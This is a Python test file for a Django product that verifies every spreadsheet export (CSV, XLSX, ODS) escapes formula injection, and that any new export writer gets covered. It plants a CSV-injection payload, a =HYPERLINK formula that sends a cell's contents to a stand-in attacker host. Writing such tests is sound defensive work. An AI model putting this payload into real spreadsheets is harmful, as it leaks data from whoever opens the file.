"""No export writes a formula: text planted as ``=HYPERLINK(...)`` in every user-text field
comes out of every CSV, XLSX and ODS file as text (org/spreadsheets.py).

Every place in the product's code that writes a spreadsheet (a CSV writer, a tablib dataset or
book, openpyxl, odfpy, xlsxwriter) is found in the source and must be one of ``WRITERS``, each
named with the test here that plants text through it: a new export fails until it is covered.
"""

import ast
import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone

from consent.brokers import export_for_broker
from consent.models import Route
from consent.objections import record_objection
from org.accounts import team_of
from org.models import Organisation
from prospects import importing
from prospects.models import ImportJob, InteractionType
from prospects.timeline import add_note, record_interaction
from registry.breaches import BreachReport, record_breach
from registry.exports import BREACH_FORMATS, export_breaches, export_register
from registry.subject_access import export_subject_data
from tests import factories
from tests.prospects.broker_files import BROKER

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
STARTS = ("=", "+", "-", "@")
ROOT = Path(settings.BASE_DIR)
APPS = ("consent", "crm", "org", "outreach", "prospects", "registry")
# Every function of the product that writes a spreadsheet, and the test that plants text in it.
WRITERS = {
    "consent/brokers.py:export_for_broker": "test_the_broker_export_writes_no_formula",
    "prospects/import_views.py:import_report_csv": "test_the_import_report_writes_no_formula",
    "prospects/list_export.py:_csv": "test_the_list_export_writes_no_formula",
    "prospects/list_export.py:_xlsx": "test_the_list_export_writes_no_formula",
    "registry/exports.py:_dataset": "test_the_register_writes_no_formula",
    "registry/exports.py:_sheet": "test_the_register_writes_no_formula",
    "registry/exports.py:export_breaches": "test_the_breach_register_writes_no_formula",
    "registry/subject_access.py:_csv": "test_the_subject_access_copy_writes_no_formula",
    # The ODS layout restyles the cells a writer above made, and writes no value of its own.
    **{
        f"org/spreadsheets.py:import odf.{module}": "test_the_register_writes_no_formula"
        for module in ("opendocument", "style", "table", "teletype")
    },
}
WRITING_CALLS = re.compile(r"^(csv\.(writer|DictWriter)|tablib\.(Dataset|Databook)|(openpyxl\.)?Workbook)$")
WRITING_MODULES = ("odf", "xlsxwriter", "pyexcel", "ezodf", "openpyxl.writer")


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formula_cells_of_xlsx(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.coordinate
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _formula_cells_of_ods(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("content.xml").decode()
    return re.findall(r'table:formula="[^"]*"', body)


def _assert_no_formula(fmt: str, content: bytes | str) -> None:
    if fmt == "csv":
        text = content.decode() if isinstance(content, bytes) else content
        cells = _csv_cells(text)
        assert any(PLANTED in cell for cell in cells), "the planted text is not in the file"
        assert not [cell for cell in cells if cell.startswith(STARTS)]
    else:
        formulas = _formula_cells_of_xlsx(content) if fmt == "xlsx" else _formula_cells_of_ods(content)
        assert not formulas
        assert "'" + PLANTED in _sheet_text(fmt, content)


def _plant_organisation() -> None:
    organisation = Organisation.objects.current()
    for field in ("name", "address", "legal_representative", "dpo_name", "transfers"):
        setattr(organisation, field, PLANTED)
    organisation.save()
    # A transfer's line starts with the processor's name: a cell of its own in the register.
    organisation.processors.create(
        role="hosting", name=PLANTED, country="US", safeguard="scc", documentation=PLANTED
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_the_register_writes_no_formula(fmt):
    _plant_organisation()

    export = export_register(fmt)

    _assert_no_formula(fmt, export.content)


@pytest.mark.parametrize("fmt", [fmt for fmt in BREACH_FORMATS if fmt in ("csv", "xlsx")])
def test_the_breach_register_writes_no_formula(fmt, dpo):
    discovered = timezone.now() - timedelta(days=2)
    record_breach(
        BreachReport(
            discovered_at=discovered,
            nature=PLANTED,
            data_concerned=PLANTED,
            people_concerned=PLANTED,
            people_count=3,
            consequences=PLANTED,
            measures=PLANTED,
            cnil_notified_at=discovered + timedelta(hours=20),
        ),
        by=dpo,
    )

    export = export_breaches(fmt)

    _assert_no_formula(fmt, export.content)


def test_the_subject_access_copy_writes_no_formula(rep, admin_user):
    person = factories.prospect(
        by=rep,
        first_name=PLANTED,
        last_name="+" + PLANTED,
        job_title="@" + PLANTED,
        company_name=PLANTED,
        email="planted@acme.example",
    )
    add_note(person, text=PLANTED, by=rep)
    record_interaction(person, type=InteractionType.EMAIL_REPLY, summary="-" + PLANTED, by=rep)

    package = export_subject_data(person, by=admin_user)

    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        data = archive.read("data.csv").decode()
    _assert_no_formula("csv", data)


def test_the_broker_export_writes_no_formula(rep, admin_user):
    person = factories.prospect(
        by=rep,
        source_type="broker",
        evidence=factories.EVIDENCE["broker"] | {"contract_ref": PLANTED, "list_id": PLANTED},
    )
    record_objection(person, via=Route.LINK)
    broker = factories.EVIDENCE["broker"]["broker"]

    _export, text = export_for_broker(broker, by=admin_user)

    _assert_no_formula("csv", text)


def _sheet_text(fmt: str, content: bytes) -> str:
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("content.xml").decode().replace("&quot;", '"').replace("&amp;", "&")


# --- the list export, the import report ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_list_export_writes_no_formula(fmt, rep):
    rep.first_name, rep.last_name = PLANTED, "@" + PLANTED
    rep.save()
    factories.prospect(
        by=rep,
        first_name=PLANTED,
        last_name="-" + PLANTED,
        job_title="+" + PLANTED,
        company_name=PLANTED,
        email="planted@acme.example",
    )
    lead = factories.user(role="team_lead", username="lead", team=team_of(rep))
    browser = factories.log_in(Client(), lead)

    response = browser.get(f"/prospects/export/{fmt}/")

    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_no_formula(fmt, content.removeprefix(b"\xef\xbb\xbf") if fmt == "csv" else content)


def test_the_import_report_writes_no_formula(rep, tmp_path):
    """The report names the file's own columns: headings are text from the file's supplier."""
    headings = [PLANTED, "+" + PLANTED, "-" + PLANTED]
    path = tmp_path / "planted.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([headings, ["", "Turing", "alan@b.fr"], ["Ada", "Lovelace", "ada.at.b"]])
    job = importing.create_job(
        path=str(path), filename=path.name, source_type="broker", evidence=BROKER, owner=rep, by=rep
    )
    importing.inspect(job)
    importing.begin(
        job, mapping=dict(zip(("first_name", "last_name", "email"), headings, strict=True)), language="fr"
    )
    importing.run(job)
    assert ImportJob.objects.get(pk=job.pk).rejected == 2

    response = factories.log_in(Client(), rep).get(f"/prospects/import/{job.pk}/rejected.csv")

    assert response.status_code == 200
    _assert_no_formula("csv", b"".join(response.streaming_content))


# --- every writer is covered ----------------------------------------------------------------------------


def _writers_in_source() -> set[str]:
    """``path:function`` of every call that writes a spreadsheet, and every import of a writing library."""
    found = set()
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text())
            name = path.relative_to(ROOT).as_posix()
            for function in (
                n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)
            ):
                for node in ast.walk(function):
                    if isinstance(node, ast.Call) and WRITING_CALLS.match(ast.unparse(node.func)):
                        found.add(f"{name}:{function.name}")
            for node in ast.walk(tree):
                modules = (
                    [alias.name for alias in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                found |= {f"{name}:import {m}" for m in modules if m.startswith(WRITING_MODULES)}
    return found


def test_every_spreadsheet_writer_of_the_product_is_covered_here():
    found = _writers_in_source()
    tests = {name for name in globals() if name.startswith("test_")}

    assert found - set(WRITERS) == set(), "a new spreadsheet writer: plant a formula through it here"
    assert set(WRITERS) - found == set(), "WRITERS names a writer the source no longer has"
    assert set(WRITERS.values()) <= tests


def test_the_writer_search_finds_a_new_export():
    """The search itself: it cannot pass by finding nothing."""
    tree = "import tablib\nfrom odf.opendocument import OpenDocumentSpreadsheet\n"
    tree += "def export_calls(rows):\n    return tablib.Dataset(*rows).export('ods')\n"
    parsed = ast.parse(tree)
    calls = [
        ast.unparse(node.func)
        for node in ast.walk(parsed)
        if isinstance(node, ast.Call) and WRITING_CALLS.match(ast.unparse(node.func))
    ]

    assert calls == ["tablib.Dataset"]
    assert len(_writers_in_source()) >= 8
